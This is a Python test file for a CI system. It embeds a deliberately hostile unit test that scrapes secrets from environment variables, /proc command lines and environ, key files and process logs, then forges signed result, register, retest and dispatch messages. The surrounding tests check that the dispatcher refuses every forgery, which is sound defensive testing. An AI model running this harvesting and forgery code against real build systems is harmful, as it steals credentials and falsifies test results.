"""A hostile commit, end to end (issue 8): its test steals every key it
can reach and forges results, retest and dispatch for the commit before
it; nothing changes, with and without ``--test-user``.  And the runner
hands its children no secret."""

from __future__ import annotations

import json
import os
import pathlib
import re

from ci import auth
from support.cluster import SYSTEM_PYTHON, free_port, project_copy, wait_for_port, wait_until
from support.users import new_test_user
from ci.wire import decode_fields
from support.privilege import (LOOPBACK, MASTER, TEST_COMMAND, UserDaemon, ask, git_head,
    key_security, nobody_clone, user_folder_cluster, warnings, write_secret)


SLOW_FAILING_TEST = """import time
import unittest


class TestSlowAndBroken(unittest.TestCase):
    def test_fails_after_a_while(self):
        time.sleep(3)
        self.assertEqual(1 + 1, 3)
"""


# A test that "looks harmless": it steals what it can reach and forges with
# it.  Standard library only, and none of the CI's code: it signs frames
# itself, as an attacker who read the README would.
HOSTILE_TEST = r'''import hashlib
import hmac
import json
import os
import re
import secrets
import socket
import subprocess
import time
import unittest

HEX32 = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
SECRET_FLAGS = ("--secret-file", "--tls-key", "--webhook-secret-file")


def read(path, limit=4 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return None


def frame(payload, key, key_id):
    ts, nonce = b"%.3f" % time.time(), secrets.token_hex(12).encode()
    if key is None:
        return b"CI1 %d %s %s -\n" % (len(payload), ts, nonce) + payload
    mac = hmac.new(key, digestmod=hashlib.sha256)
    for part in (b"CI1", ts, nonce, b""):
        mac.update(part + b"\n")
    if key_id:
        mac.update(b"key " + key_id.encode() + b"\n")
    mac.update(payload)
    kid = b" " + key_id.encode() if key_id else b""
    return b"CI1 %d %s %s %s%s\n" % (len(payload), ts, nonce, mac.hexdigest().encode(),
                                     kid) + payload


def send(address, payload, key, key_id):
    try:
        with socket.create_connection(address, timeout=5) as sock:
            sock.sendall(frame(payload, key, key_id))
            sock.shutdown(socket.SHUT_WR)
            data = b""
            while len(data) < 65536:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
    except OSError as exc:
        return "no reply: %s" % exc
    return data.partition(b"\n")[2].split(b"\n")[0].decode("ascii", "replace")


class TestLooksHarmless(unittest.TestCase):
    def test_nothing_to_see(self):
        texts, keys, addresses = [], {}, set()

        def take_secret(data, where):
            data = data.strip()
            if not data:
                return
            if data.startswith(b"ci-key-v1 "):
                parts = data.decode("ascii", "replace").split()
                if len(parts) == 3:
                    keys.setdefault(parts[2], (parts[1], parts[2], []))[2].append(where)
            else:
                text = data.decode("latin-1")
                keys.setdefault(text, (None, text, []))[2].append(where)

        for name, value in os.environ.items():
            texts.append(value.encode())
            if "SECRET" in name or value.startswith("ci-key-v1 "):
                take_secret(value.encode(), "own environment " + name)
        # Only this cluster's processes (those naming its folder): other
        # software on the machine is not ours to probe.
        cluster = os.path.dirname(os.getcwd()).encode()
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            cmdline = read("/proc/%s/cmdline" % pid)
            if not cmdline or cluster not in cmdline:
                continue
            texts.append(cmdline)
            args = [a.decode("utf-8", "replace") for a in cmdline.split(b"\0")]
            try:
                cwd = os.readlink("/proc/%s/cwd" % pid)
            except OSError:
                cwd = os.getcwd()
            for i, arg in enumerate(args):
                flag, eq, value = arg.partition("=")
                if flag in SECRET_FLAGS:
                    value = value if eq else (args[i + 1] if i + 1 < len(args) else "")
                    path = os.path.join(cwd, value)
                    data = read(path)
                    if data is not None:
                        texts.append(data)
                        take_secret(data, "file %s named by pid %s" % (path, pid))
                if flag == "--dispatcher-server" and i + 1 < len(args):
                    host, _, port = args[i + 1].rpartition(":")
                    if port.isdigit():
                        addresses.add((host, int(port)))
            environ = read("/proc/%s/environ" % pid)
            if environ:
                texts.append(environ)
                for entry in environ.split(b"\0"):
                    name, _, value = entry.partition(b"=")
                    if b"SECRET" in name:
                        take_secret(value, "environment of pid %s" % pid)
            for fd in ("1", "2"):   # logs: maybe someone logs a token
                try:
                    target = os.readlink("/proc/%s/fd/%s" % (pid, fd))
                except OSError:
                    continue
                if target.startswith("/") and os.path.isfile(target):
                    data = read("/proc/%s/fd/%s" % (pid, fd), 8 << 20)
                    if data:
                        texts.append(data)
        tokens = sorted({t.decode() for text in texts for t in HEX32.findall(text)})
        previous = subprocess.run(["git", "rev-parse", "HEAD~1"], capture_output=True,
                                  text=True).stdout.strip()
        replies = []
        body = b"verdict: passed\ntests: 1\n\nforged: all good\n"
        for address in sorted(addresses):
            for key_id, key, _where in list(keys.values()) + [(None, None, "unsigned")]:
                secret = key.encode("latin-1") if key is not None else None
                for token in tokens[:40] + [secrets.token_hex(16)]:
                    replies.append(["results", key_id, send(
                        address, b"results:%s %s\n" % (previous.encode(), token.encode())
                        + body, secret, key_id)])
                replies.append(["register", key_id, send(
                    address, b"register:127.0.0.1:9\ninstance: thief\nbusy: \n", secret,
                    key_id)])
                replies.append(["retest", key_id, send(
                    address, b"retest:" + previous.encode(), secret, key_id)])
                replies.append(["dispatch", key_id, send(
                    address, b"dispatch:" + secrets.token_hex(20).encode(), secret, key_id)])
        report = {"keys": [[k, v, w] for k, v, w in keys.values()], "tokens": len(tokens),
                  "addresses": sorted(addresses), "previous": previous,
                  "replies": replies}
        print("HOSTILE REPORT " + json.dumps(report), flush=True)
'''


def hostile_cluster(request, test_user: bool):
    """Dispatcher (master), observer (its own key) and two runners (each
    its own key file, named relative to the runner's folder), in a folder
    the unprivileged user can traverse.  Without ``test_user`` the runners
    themselves run as that user (a test then reaches all they can); with
    it they run as root and each switches to a test user of its own (a
    runner ends every process of its test user after each run) for its
    tests."""
    users = {name: new_test_user(request) for name in ("ra", "rb")} if test_user else {}
    cluster, upstream, base, nobody = user_folder_cluster(request)
    secrets_ = {"master": write_secret(base / "master", MASTER),
                "observer": write_secret(base / "observer.key", auth.format_key_file(
                    "observer", "obs", MASTER).encode())}
    cluster.start_dispatcher("--secret-file", secrets_["master"])
    cluster.start_observer("--secret-file", secrets_["observer"], "--poll", "0.3",
                           "--no-listen", wait=False)
    for name in ("ra", "rb"):
        key_file = write_secret(base / f"{name}.key", auth.format_key_file(
            "runner", name, MASTER).encode())
        clone = nobody_clone(upstream, base / f"clone-{name}", users.get(name, nobody))
        common = ["--secret-file", f"{name}.key", "--test-command", TEST_COMMAND,
                  "--progress-interval", "0.3"]
        if test_user:
            state = base / f"state-{name}"
            cluster.start_runner(*common, "--test-user", users[name].pw_name, "--state-dir",
                                 str(state), clone=clone)
        else:
            os.chown(key_file, nobody.pw_uid, nobody.pw_gid)
            port = free_port()
            code = project_copy(base / "ci")   # the runner's files, readable by the user
            args = [SYSTEM_PYTHON, os.path.join(code, "test_runner.py"), "--host", LOOPBACK,
                    "--port", str(port), "--dispatcher-server", cluster.dispatcher_address,
                    "--heartbeat", "0.5", "--retry-max", "0.5", "--log-level", "DEBUG",
                    *common, clone]
            daemon = UserDaemon(f"runner-{name}", args, str(base / f"runner-{name}.log"),
                                str(base), cluster.env, nobody)
            daemon.port = port
            cluster.daemons.append(daemon)
            wait_for_port(port, daemon)
        secrets_[name] = key_file
    return cluster, upstream, secrets_


def all_key_material() -> dict[str, str]:
    return {"master": MASTER.decode(),
            "observer": auth.derive_key(MASTER, "observer", "obs").decode(),
            "ra": auth.derive_key(MASTER, "runner", "ra").decode(),
            "rb": auth.derive_key(MASTER, "runner", "rb").decode()}


def run_hostile_commit(cluster, upstream) -> tuple[dict, dict, dict]:
    """Push N-1 (slow, fails) and, while it runs, N (hostile); return the
    results of both and the hostile test's report."""
    port = cluster.dispatcher_port
    viewer = key_security("viewer", "watcher")
    first = git_head(upstream)
    cluster.result(first, 30)   # the observer's first poll; both runners idle again
    previous = upstream.commit({"tests/test_slow.py": SLOW_FAILING_TEST}, "slow and broken")

    def running():
        state = json.loads(ask(port, "state", security=viewer).body)
        return previous in [job["commit"] for job in state["running"]]
    wait_until(running, 20, what="N-1 running")
    hostile = upstream.commit({"tests/test_slow.py": None, "tests/test_hostile.py":
                               HOSTILE_TEST}, "harmless refactoring")
    hostile_result = cluster.result(hostile, 30)
    previous_result = cluster.result(previous, 30)
    marker = b"HOSTILE REPORT "
    line = next((ln for ln in hostile_result["output"].splitlines() if ln.startswith(marker)),
                None)
    assert line is not None, hostile_result["output"][-3000:]
    report = json.loads(line[len(marker):])
    assert report["previous"] == previous
    return previous_result, hostile_result, report


def assert_nothing_changed(cluster, previous_result, report) -> None:
    dispatcher = cluster.daemons[0]
    assert previous_result["verdict"] == "failed", previous_result
    assert b"forged" not in previous_result["output"]
    assert report["addresses"] == [[LOOPBACK, cluster.dispatcher_port]], report["addresses"]
    assert report["replies"], "the hostile test forged nothing"
    for command, key_id, reply in report["replies"]:
        assert not reply.startswith("ok"), (command, key_id, reply)
    # Every forgery was refused at WARNING, with the sender's address.
    refused = [w for w in warnings(dispatcher)
               if "refused request from 127.0.0.1:" in w or "bad message from 127.0.0.1:" in w]
    assert len(refused) >= len(report["replies"]), (len(refused), len(report["replies"]))
    # N-1 was written once and never retested; the forged dispatch queued nothing.
    previous = report["previous"]
    line = f"result for {previous[:12]}: failed"
    # The file is renamed into place a moment before the line is logged.
    wait_until(lambda: line in dispatcher.log(), 10, what="the result's log line")
    assert dispatcher.log().count(line) == 1
    status = decode_fields(ask(cluster.dispatcher_port, "status",
                                       security=key_security("viewer", "w")).body)
    assert (status["queued"], status["running"]) == ("0", "0"), status
    assert len(cluster.result_files()) == 3, cluster.result_files()


def test_hostile_commit_without_test_user_finds_runner_keys_but_changes_nothing(request):
    cluster, upstream, _files = hostile_cluster(request, test_user=False)
    previous_result, hostile_result, report = run_hostile_commit(cluster, upstream)
    assert_nothing_changed(cluster, previous_result, report)
    found = {key_id: (key, where) for key_id, key, where in report["keys"]}
    material = all_key_material()
    # What a test can reach without --test-user: every key its runner's
    # user can read -- both runners' keys here, through /proc cmdlines
    # resolved against each runner's folder.  Not the master or the
    # observer's key (another user's files), and not from its own
    # environment or command line: the runner passes it no key.
    assert found.get("runner:ra", (None,))[0] == material["ra"], report["keys"]
    assert found.get("runner:rb", (None,))[0] == material["rb"], report["keys"]
    assert set(found) == {"runner:ra", "runner:rb"}, report["keys"]
    # Each daemon's start-up line says what protects it.
    logs = {d.name: d.log() for d in cluster.daemons}
    assert "secret on (master; issued keys accepted), TLS off" in logs["dispatcher"]
    assert "secret on (key observer:obs), TLS off" in logs["observer"]
    assert "secret on (key runner:ra), TLS off, test user off" in logs["runner-ra"]
    assert all(where.startswith("file ") for _key, wheres in found.values()
               for where in wheres), found
    # And with them: no retest, no dispatch, no token for N-1.
    by_key = {}
    for command, key_id, reply in report["replies"]:
        by_key.setdefault((command, key_id), []).append(reply)
    for key_id in ("runner:ra", "runner:rb"):
        # Nor take its runner's work elsewhere: one address per runner key.
        [reply] = by_key[("register", key_id)]
        assert reply.startswith(f"error:runner {key_id[7:]} is registered at 127.0.0.1:"), reply
        assert by_key[("retest", key_id)] == ["error:retest is not allowed for role runner"]
        assert by_key[("dispatch", key_id)] == [
            "error:dispatch is not allowed for role runner"]
        for reply in by_key[("results", key_id)]:
            assert reply.startswith(f"error:result for {report['previous'][:12]} refused"), \
                reply
    assert all(r.startswith("error:unsigned message refused")
               for r in by_key[("results", None)] + by_key[("retest", None)])


def test_hostile_commit_with_test_user_reaches_no_key(request):
    cluster, upstream, secret_files = hostile_cluster(request, test_user=True)
    previous_result, hostile_result, report = run_hostile_commit(cluster, upstream)
    assert_nothing_changed(cluster, previous_result, report)
    assert report["keys"] == [], report["keys"]
    runners = [d for d in cluster.daemons if d.name.startswith("runner")]
    assert len(runners) == 2
    for runner in runners:
        assert re.search(r"TLS off, test user ci-t-\w+ \(private HOME and TMPDIR per run; "
                         r"after each run every process of ci-t-\w+ is ended", runner.log())
    assert hostile_result["verdict"] == "passed", hostile_result
    # The per-test records still work as the test user (it can write the
    # runner's private JUnit folder, made its own for the run).
    assert "junit" not in hostile_result and "junit" not in previous_result
    assert os.path.exists(cluster.result_path(report["previous"]) + ".xml")
    # No key, of any process, appears in any result file.
    for name in os.listdir(cluster.results):
        if not os.path.isfile(os.path.join(cluster.results, name)):
            continue                    # the dispatcher's empty spare files' folder
        with open(os.path.join(cluster.results, name), "rb") as handle:
            data = handle.read()
        for what, secret in all_key_material().items():
            assert secret.encode() not in data, (name, what)
        for what, path in secret_files.items():
            assert pathlib.Path(path).stat().st_mode & 0o777 == 0o600
            assert pathlib.Path(path).read_bytes().strip() not in data, (name, what)


def test_the_runner_hands_its_children_no_secret(monkeypatch):
    from ci.runner.slot import child_env
    monkeypatch.setenv("CI_SECRET", "ci-key-v1 runner:r1 " + "0" * 64)
    env = child_env()
    assert "CI_SECRET" not in env and env["PYTHONUNBUFFERED"] == "1"
    assert not any("ci-key-v1" in value for value in env.values())
